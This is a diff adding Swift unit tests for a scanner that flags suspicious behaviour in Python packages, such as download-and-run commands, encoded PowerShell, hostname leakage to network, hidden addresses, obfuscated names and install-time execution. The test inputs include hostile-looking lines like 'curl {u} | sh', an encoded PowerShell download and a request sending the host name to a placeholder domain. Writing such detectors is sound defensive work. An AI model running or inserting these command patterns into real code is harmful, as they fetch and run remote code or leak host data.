@@ -1,0 +1,132 @@
+import Behaviors
+import PythonSemantics
+import Testing
+
+/// Python in, observations out.
+@Suite("Observers")
+struct ObserverTests {
+  private let catalogue: Catalogue
+
+  init() throws { catalogue = try Catalogue.embedded() }
+
+  private func seen(_ source: String, in path: String = "package/__init__.py") -> [Observation] {
+    observations(in: [(path, Array(source.utf8))], catalogue: catalogue)
+  }
+
+  /// The source shows the behaviour with this detail, and no behaviour of `not`.
+  private func check(
+    _ source: String, shows behavior: Behavior, detail: String? = nil, not others: [Behavior] = [],
+    in path: String = "package/__init__.py", sourceLocation: SourceLocation = #_sourceLocation
+  ) {
+    let found = seen(source, in: path)
+    let matching = found.filter { $0.behavior == behavior && (detail.map($0.detail.contains) ?? true) }
+    #expect(
+      !matching.isEmpty, "seen: \(found.map { "\($0.behavior.name) {\($0.detail)}" })", sourceLocation: sourceLocation)
+    for other in others { #expect(!found.contains { $0.behavior == other }, sourceLocation: sourceLocation) }
+  }
+
+  private func check(
+    _ source: String, doesNotShow behavior: Behavior, sourceLocation: SourceLocation = #_sourceLocation
+  ) {
+    #expect(!seen(source).contains { $0.behavior == behavior }, sourceLocation: sourceLocation)
+  }
+
+  @Test func modeDecidesWhatOpenDoes() {
+    check("open('a')", shows: .readsFile, detail: "a", not: [.writesFile])
+    check("open('a', 'rb')", shows: .readsFile, not: [.writesFile])
+    check("open('a', mode='w')", shows: .writesFile, detail: "a", not: [.readsFile])
+    check("import io\nio.open('a', 'ab')", shows: .writesFile)
+  }
+
+  @Test func commandsAreReadFromLists() {
+    check("import subprocess\nsubprocess.run(['git', 'describe', x])", shows: .spawnsProcess, detail: "git describe ?")
+    check(
+      "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'a'])", shows: .installsPackage)
+    check("import os\nos.system(f'curl {u} | sh')", shows: .runsDownloadCommand, detail: "curl ? | sh")
+    check("import os\nos.execl('/bin/sh', 'sh', '-c', 'wget a')", shows: .runsDownloadCommand)
+    check("import subprocess\nsubprocess.run('a', shell=True)", shows: .runsShell)
+    check("import subprocess\nsubprocess.run('a', shell=False)", doesNotShow: .runsShell)
+    check("import subprocess\nsubprocess.run(['curlew'])", doesNotShow: .runsDownloadCommand)
+  }
+
+  @Test func encodedPowerShellIsRead() {
+    // "curl a" as UTF-16LE and base64
+    check(
+      "import os\nos.system('powershell -enc YwB1AHIAbAAgAGEA')", shows: .runsEncodedPowershell, detail: "curl a")
+    check("import os\nos.system('powershell -enc YwB1AHIAbAAgAGEA')", shows: .runsDownloadCommand, detail: "curl a")
+    check("import os\nos.system('powershell -File a.ps1')", doesNotShow: .runsEncodedPowershell)
+  }
+
+  @Test func variablesAreToldApart() {
+    check("import os\nx = os.environ['USERNAME']", shows: .readsHostIdentity, detail: "USERNAME")
+    check("import os\nx = os.getenv('HOME')", shows: .readsVariable, detail: "HOME", not: [.readsHostIdentity])
+    check("import os\nx = dict(os.environ)", shows: .readsEnvironment)
+    check("import os\nos.environ['A'] = 'b'", doesNotShow: .readsVariable)
+    check("import os\nif 'A' in os.environ: pass", doesNotShow: .readsEnvironment)
+    check("import os, subprocess\nsubprocess.run(['a'], env=os.environ)", doesNotShow: .readsEnvironment)
+  }
+
+  @Test func requestsThatCarrySomethingSend() {
+    check(
+      "import requests\nrequests.get('https://a.invalid/')", shows: .fetchesFromNetwork, detail: "https://a.invalid/",
+      not: [.sendsToNetwork])
+    check("import requests, socket\nrequests.get('https://a.invalid/' + socket.gethostname())", shows: .sendsToNetwork)
+    check("import urllib.request as u\nu.urlopen('https://a.invalid/', data=b'x')", shows: .sendsToNetwork)
+    check("import urllib.request as u\nu.urlopen('https://a.invalid/')", doesNotShow: .sendsToNetwork)
+  }
+
+  @Test func decodedAddressesAndCommandsAreHidden() {
+    check("import base64, requests\nrequests.get(base64.b64decode('YQ==').decode())", shows: .hidesAddress)
+    check(
+      "import base64, requests\nrequests.post('https://a.invalid/', data=base64.b64decode(x))",
+      doesNotShow: .hidesAddress)
+    check("import base64, os\nos.system(base64.b64decode('YQ==').decode())", shows: .hidesCommand)
+  }
+
+  @Test func textsAreFoundInConstantsOnly() {
+    check("X = 'https://a.oastify.com/'", shows: .namesHost, detail: "oastify")
+    check("X = 'https://a.oas' + 'tify.com/'", shows: .namesHost)
+    check("'''Documentation of https://a.oastify.com/'''", doesNotShow: .namesHost)
+    check("# https://a.oastify.com/", doesNotShow: .namesHost)
+  }
+
+  @Test(arguments: [
+    ("http://45.61.20.30/x", true), ("45.61.20.30:8080", true), ("http://127.0.0.1/", false),
+    ("http://192.168.1.1/", false), ("1.2.3.4", false), ("45.61.20.300", false), ("version 45.61.20.30", false),
+    ("45.61.20.30.5", false),
+  ])
+  func publicAddressesAreNamed(text: String, isNamed: Bool) {
+    #expect(seen("X = '\(text)'").contains { $0.behavior == .namesAddress } == isNamed)
+  }
+
+  @Test func opaqueLiteralsAreSeen() {
+    check("X = '\(String(repeating: "QUJD", count: 100))'", shows: .opaqueConstant)
+    check("X = [\(Array(repeating: "104", count: 400).joined(separator: ", "))]", shows: .opaqueConstant)
+    check("X = '\(String(repeating: "a word or two ", count: 100))'", doesNotShow: .opaqueConstant)
+    check("X = 'QUJD'", doesNotShow: .opaqueConstant)
+  }
+
+  @Test func unreadableNamesAreSeen() {
+    let odd = (0..<20).map { "lIl1I\(String($0, radix: 2).map { $0 == "0" ? "l" : "I" }.joined())Il = 1" }
+    check(odd.joined(separator: "\n"), shows: .obfuscatesNames)
+    let plain = [
+      "getHTTPResponseCode", "XMLHttpRequest", "utf8_to_utf16le", "test_rfc3986_b64", "x86_64", "i18nString2",
+      "snake_case_name_with_words", "strlen", "wcwidth", "MAX_BYTES_PER_READ", "kwargs2", "OpenSSLX509V3",
+    ]
+    check(plain.map { "\($0) = 1" }.joined(separator: "\n"), doesNotShow: .obfuscatesNames)
+  }
+
+  @Test func runTimeIsKept() {
+    #expect(
+      seen("import os\nos.system('a')", in: "setup.py").first { $0.behavior == .spawnsProcess }?.runsAt == .install)
+    #expect(seen("import os\nos.system('a')").first { $0.behavior == .spawnsProcess }?.runsAt == .import)
+    #expect(seen("import os\ndef f():\n  os.system('a')").first { $0.behavior == .spawnsProcess }?.runsAt == .call)
+  }
+
+  @Test func filesAreSniffed() {
+    let program = [UInt8]("MZ".utf8) + [0x90, 0] + [UInt8](repeating: 0, count: 300)
+    let found = observations(in: [("package/a.py", program)], catalogue: catalogue)
+    #expect(found.contains { $0.behavior == .notPythonText && $0.subject == "program" })
+    #expect(!seen("x = 1").contains { $0.behavior == .notPythonText })
+  }
+}
